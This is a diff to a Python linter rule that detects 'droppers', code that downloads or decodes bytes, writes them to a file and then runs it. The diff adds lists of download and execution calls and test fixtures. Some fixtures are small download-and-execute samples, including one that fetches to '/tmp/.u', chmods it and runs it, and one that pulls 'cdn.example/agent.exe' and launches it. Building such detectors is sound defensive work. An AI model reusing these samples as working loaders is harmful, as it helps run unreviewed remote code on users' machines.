@@ -40,6 +40,13 @@ DANGEROUS_MODULES = {"os", "subprocess", "socket", "pty", "ctypes", "builtins", 
                      "nt", "importlib", "sys", "shutil", "urllib.request", "requests", "base64", "zlib", "runpy",
                      "code", "codeop", "types", "platform"}
 BUILTIN_HOLDERS = {"builtins", "__builtins__", "__builtin__"}
+# Calls that save a download to a file (url, path), and calls that run (or make runnable) a file.
+DOWNLOADERS = {"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"}
+FILE_RUNNERS = SHELL_RUNNERS | {"os.chmod", "os.startfile", "os.execv", "os.execl", "os.execvp", "os.execlp",
+                                "os.spawnl", "os.spawnv", "os.posix_spawn", "runpy.run_path", "ctypes.CDLL",
+                                "ctypes.cdll.LoadLibrary", "ctypes.windll.LoadLibrary", "subprocess.check_call",
+                                "subprocess.getoutput", "asyncio.create_subprocess_exec",
+                                "asyncio.create_subprocess_shell", "execfile"}
 # Cheap prefilter: execution primitives (called or not: `run = exec` then `run(payload)`), builtins
 # holders, decoders, unpicklers, process calls, getattr with a built name and literal concatenation
 # (names assembled from pieces).
@@ -47,13 +54,15 @@ TRIGGER = re.compile(
     rb"(?<![.\w])(?:exec|eval|compile|execfile|__import__)\b|import_module|FunctionType|CodeType|__builtins__|"
     rb"__builtin__|\bbuiltins\b|globals\(\)\s*\[|locals\(\)\s*\[|vars\(|__dict__\s*\[|b64decode|b32decode|b16decode|fromhex|"
     rb"unhexlify|a2b_|decompress|codecs|marshal|pickle|dill|jsonpickle|unsafe_load|runpy|subprocess|system\(|popen|"
+    rb"urlretrieve|chmod|startfile|Popen|"
     rb"getattr\([^\n]*(?:[\"']\s*\+|\+\s*[\"']|join\(|\[::-1\]|chr\(|decode\()"
 )
 # every branch of TRIGGER holds one of these: substring tests rule most files out 5x faster
 TRIGGER_LITERALS = (b"exec", b"eval", b"compile", b"__import__", b"import_module", b"FunctionType", b"CodeType",
                     b"builtin", b"globals", b"locals", b"vars(", b"__dict__", b"b64decode", b"b32decode", b"b16decode",
                     b"fromhex", b"unhexlify", b"a2b_", b"decompress", b"codecs", b"marshal", b"pickle", b"dill",
-                    b"unsafe_load", b"runpy", b"subprocess", b"system(", b"popen", b"getattr(")
+                    b"unsafe_load", b"runpy", b"subprocess", b"system(", b"popen", b"getattr(", b"urlretrieve",
+                    b"chmod", b"startfile", b"Popen")
 LITERAL_CONCATENATION = re.compile(rb"[\"']\s*\+\s*[\"']")
 B64_BLOB = re.compile(r"^[A-Za-z0-9+/=_\-\s\\n]+$")
 HEX_BLOB = re.compile(r"^[0-9a-fA-F\s]+$")
@@ -122,6 +131,7 @@ class ObfuscatedExec(PythonChecker):
             self._check_computed_import(node, executor)
         if names & DECODERS:
             self._check_blob(node, sorted(names & DECODERS)[0])
+        self._check_dropped(node, names)
 
     def visit_Subscript(self, node: cst.Subscript) -> None:
         """globals()["ex" + "ec"], vars(builtins)[name], __builtins__["eval"], builtins.__dict__[...]"""
@@ -170,6 +180,84 @@ class ObfuscatedExec(PythonChecker):
         if hiding:
             self._once(call, "BDL501", f"{label} runs code produced by {hiding}: what executes is a decoded blob "
                        "nobody reviewed, not the source you read")
+
+    def _check_dropped(self, call: cst.Call, names: set[str]) -> None:
+        """A dropper: data fetched from the network (or decoded) written to a file that the same
+        function then runs, loads or makes executable (`open(p, "wb").write(r.content)` ...
+        `os.chmod(p, 0o755)` / `subprocess.call(p)`; `urlretrieve(url, p)` ... `Popen([p])`)."""
+        origin = path = opened = None
+        if names & DOWNLOADERS and len(call.args) >= 2:
+            path, origin = call.args[1].value, (NETWORK, f"data fetched by {self.context.code(call.func)}()")
+        elif isinstance(call.func, cst.Attribute) and call.func.attr.value in ("write", "write_bytes", "write_text") \
+                and call.args:
+            path, opened = self._written_path(call.func.value)
+            found = sorted((t for t in self.flow.taints(call.args[0].value) if t.kind in (NETWORK, DECODED)),
+                           key=lambda t: (t.kind != NETWORK, t.line))
+            origin = (found[0].kind, found[0].describe()) if found else None
+        if path is None or origin is None:
+            return
+        run = self._runs_file(call, path)
+        if run is not None:
+            code = "BDL502" if origin[0] == NETWORK else "BDL501"
+            self._once(opened or call, code, f"`{self.context.code(call)[:60]}` writes {origin[1]} to "
+                       f"`{self.context.code(path)[:40]}`, which {run}: a dropper, the code that runs is not in "
+                       "this repository and nobody reviewed it")
+
+    def _written_path(self, receiver: cst.BaseExpression) -> tuple[cst.BaseExpression | None, cst.Call | None]:
+        """(path, the call that opened it) of a file opened for writing: `open(p, "wb")`, `with
+        open(p, "wb") as f` / `f = open(p, "wb")` then `f`, `Path(p)` (for write_bytes)."""
+        opened = None
+        if isinstance(receiver, cst.Name):
+            bound = [self.flow.bound_expression(a.node) for a in self.context.assignments(receiver)
+                     if isinstance(a.node, cst.Name)]
+            receiver = bound[0] if len(bound) == 1 and bound[0] is not None else receiver
+            opened = receiver if isinstance(receiver, cst.Call) else None
+        if not isinstance(receiver, cst.Call) or not receiver.args:
+            return None, None
+        names = self.qualnames(receiver.func)
+        if names & {"pathlib.Path", "pathlib.PosixPath", "pathlib.WindowsPath"}:
+            return receiver.args[0].value, opened
+        if names & {"open", "io.open", "codecs.open"}:
+            modes = self.argument_values(receiver, "mode", 1)
+            if any(isinstance(m, str) and set(m) & set("wax") for m in modes):
+                return receiver.args[0].value, opened
+        return None, None
+
+    def _runs_file(self, site: cst.Call, path: cst.BaseExpression) -> str | None:
+        """How the function holding `site` later runs the file at `path`, or None."""
+        scope = self.context.enclosing(site, cst.FunctionDef) or self.context.module
+        line = self.flow.line(site)
+        path_code = self.context.code(path)
+        path_values = {v for v in self.evaluator.values(path) if isinstance(v, str) and v}
+        for call in self._calls_in(scope):
+            if self.flow.line(call) < line or call is site:
+                continue
+            names = self.qualnames(call.func)
+            runner = sorted(names & FILE_RUNNERS)
+            if not runner:
+                continue
+            for arg in call.args:
+                text = self.context.code(arg.value)
+                rendered = {v for v in self.evaluator.values(arg.value) if isinstance(v, str)}
+                if path_code in text or any(p in r for p in path_values for r in rendered) \
+                        or (path_values and any(p in text for p in path_values)):
+                    verb = "makes executable" if runner[0] == "os.chmod" else "runs"
+                    return f"it {verb} with {self.context.code(call.func)}() (line {self.flow.line(call)})"
+        return None
+
+    def _calls_in(self, scope: cst.CSTNode) -> list[cst.Call]:
+        key = ("calls", id(scope))
+        calls = self.flow.memo.get(key)
+        if calls is None:
+            calls = []
+
+            class Calls(cst.CSTVisitor):
+                def visit_Call(self, node: cst.Call) -> None:
+                    calls.append(node)
+
+            scope.visit(Calls())
+            self.flow.memo[key] = calls
+        return calls  # type: ignore[return-value]
 
     def _runs_text(self, argument: cst.BaseExpression) -> bool:
         """Is `argument` of a process call a command line or script (not data among argv words)?
@@ -296,6 +384,11 @@ class ObfuscatedExec(PythonChecker):
         Valid('import subprocess, base64\ndef f(name):\n'
               '    subprocess.run(["tar", "xf", base64.b64decode(name).decode()], check=True)\n', "BDL501"),
         Valid('import ast\nfrom flask import request\ndef f():\n    return ast.literal_eval(request.form["v"])\n', "BDL502"),
+        Valid('import os, requests\ndef fetch_report(url, dest):\n    r = requests.get(url, timeout=10)\n'
+              '    with open(dest, "wb") as fh:\n        fh.write(r.content)\n    os.chmod(LOG_DIR, 0o755)\n'
+              '    return dest\n', "BDL502"),
+        Valid('import requests\ndef check(req_id):\n    req = requests.get(f"https://api.example/{req_id}")\n'
+              '    return eval(str(len(req.content)))\n', "BDL502"),
         Valid('from flask import request\nHANDLERS = {"a": 1}\ndef f():\n    name = request.args["h"]\n'
               '    if name in HANDLERS:\n        return eval(name)\n', "BDL502"),
         Valid('from fastapi import FastAPI\napp = FastAPI()\n@app.get("/sum")\ndef total(n: int):\n'
@@ -345,6 +438,14 @@ class ObfuscatedExec(PythonChecker):
                 "BDL502", 3),
         Invalid('from flask import request\ndef x():\n    run = globals()["__builtins__"]["ev" + "al"]\n'
                 '    return run(request.values["e"])\n', "BDL502", 4),
+        # droppers: fetched or decoded bytes written to a file that is then run or made executable
+        Invalid('import os, requests\ndef update(url):\n    r = requests.get(url, timeout=10)\n'
+                '    with open("/tmp/.u", "wb") as fh:\n        fh.write(r.content)\n    os.chmod("/tmp/.u", 0o755)\n'
+                '    os.system("/tmp/.u &")\n', "BDL502", 4),
+        Invalid('import subprocess, urllib.request\nURL = "https://cdn.example/agent.exe"\ndef setup():\n'
+                '    urllib.request.urlretrieve(URL, "agent.exe")\n    subprocess.Popen(["agent.exe"])\n', "BDL502", 4),
+        Invalid('import base64, runpy\nP = "cHJpbnQoMSk="\ndef f(target):\n    with open(target, "w") as fh:\n'
+                '        fh.write(base64.b64decode(P).decode())\n    runpy.run_path(target)\n', "BDL501", 4),
         # BDL501: decoded or decrypted text run by a shell, `python -c` or exec
         Invalid('import os, base64\ndef f(blob):\n    os.system(base64.b64decode(blob))\n', "BDL501", 3),
         Invalid('import subprocess, sys, base64\nP = "cHJpbnQoMSk="\ndef f():\n'
